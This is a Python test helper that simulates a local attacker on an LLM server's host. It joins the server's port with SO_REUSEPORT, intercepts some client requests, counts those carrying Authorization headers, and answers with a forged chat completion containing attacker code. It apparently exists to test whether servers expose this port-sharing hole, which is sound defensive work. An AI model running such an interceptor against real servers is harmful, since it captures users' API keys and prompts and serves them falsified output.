"""An attacker on an LLM server's node, for the tests: it joins the server's port with SO_REUSEPORT
(as any process of the same user can when the server sets it, like vLLM and llama.cpp's server do)
and counts what it receives; a request it gets is answered as an attacker would (its own "model"
output), so a test can see whether anything of a victim's run ever reached it.

usage: joiner.py join --port P [--host 127.0.0.1] --counts FILE
         accept and count until SIGTERM; FILE (JSON, rewritten after each connection):
         connections, connections that sent bytes, bytes, keys (requests with an Authorization
         header: the key came with the prompt), requests (first lines, at most 20)
       joiner.py try-bind --port P
         try to bind P on 0.0.0.0, 127.0.0.1, [::] (IPv6 only), [::1], all with SO_REUSEPORT and
         SO_REUSEADDR; print one JSON object {address: "bound" or the errno name}

Standard library only: it runs under any python3."""

from __future__ import annotations

import argparse
import errno
import json
import os
import signal
import socket
import sys
import threading
from typing import Any

ATTACKER_ANSWER = json.dumps(
    {
        "object": "chat.completion",
        "model": "joined",
        "choices": [
            {
                "index": 0,
                "message": {"role": "assistant", "content": "```python\nprint('code of the attacker')\n```"},
                "finish_reason": "stop",
            }
        ],
        "data": [{"id": "joined", "object": "model"}],
    }
).encode()


def _sock(family: int, v6only: bool = False) -> socket.socket:
    s = socket.socket(family, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    if family == socket.AF_INET6:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1 if v6only else 0)
    return s


def try_bind(port: int) -> dict[str, str]:
    out = {}
    for family, host, v6only in (
        (socket.AF_INET, "0.0.0.0", False),
        (socket.AF_INET, "127.0.0.1", False),
        (socket.AF_INET6, "::", True),
        (socket.AF_INET6, "::1", True),
    ):
        s = _sock(family, v6only)
        try:
            s.bind((host, port))
            s.listen()
            out[host] = "bound"
        except OSError as exc:
            out[host] = errno.errorcode.get(exc.errno or 0, str(exc))
        finally:
            s.close()
    return out


class Counts:
    def __init__(self, path: str) -> None:
        self.path = path
        self.lock = threading.Lock()
        self.data: dict[str, Any] = {"connections": 0, "with_data": 0, "bytes": 0, "keys": 0, "requests": []}
        self.write()

    def add(self, received: bytes) -> None:
        with self.lock:
            self.data["connections"] += 1
            if received:
                self.data["with_data"] += 1
                self.data["bytes"] += len(received)
                self.data["keys"] += b"\r\nauthorization:" in received.lower()
                if len(self.data["requests"]) < 20:
                    self.data["requests"].append(received.split(b"\r\n", 1)[0].decode("latin-1"))
            self.write()

    def write(self) -> None:
        tmp = f"{self.path}.tmp"
        with open(tmp, "w", encoding="utf-8") as f:
            json.dump(self.data, f)
        os.replace(tmp, self.path)


def handle(conn: socket.socket, counts: Counts) -> None:
    conn.settimeout(2.0)
    received = b""
    try:
        while b"\r\n\r\n" not in received and len(received) < 1 << 20:
            chunk = conn.recv(65536)
            if not chunk:
                break
            received += chunk
        if received:
            head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n"
            conn.sendall(head + f"Content-Length: {len(ATTACKER_ANSWER)}\r\n\r\n".encode() + ATTACKER_ANSWER)
    except OSError:
        pass
    finally:
        conn.close()
        counts.add(received)


def join(host: str, port: int, counts_path: str) -> int:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    s = _sock(family, v6only=True)
    s.bind((host, port))
    s.listen(64)
    counts = Counts(counts_path)
    print(f"[joiner] joined {host}:{port} (pid {os.getpid()})", file=sys.stderr, flush=True)
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    while True:
        conn, _ = s.accept()
        threading.Thread(target=handle, args=(conn, counts), daemon=True).start()


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="join an LLM server's port (tests)")
    sub = parser.add_subparsers(dest="cmd", required=True)
    j = sub.add_parser("join")
    j.add_argument("--host", default="127.0.0.1")
    j.add_argument("--port", type=int, required=True)
    j.add_argument("--counts", required=True)
    t = sub.add_parser("try-bind")
    t.add_argument("--port", type=int, required=True)
    args = parser.parse_args(argv)
    if args.cmd == "try-bind":
        print(json.dumps(try_bind(args.port), sort_keys=True))
        return 0
    return join(args.host, args.port, args.counts)


if __name__ == "__main__":
    sys.exit(main())
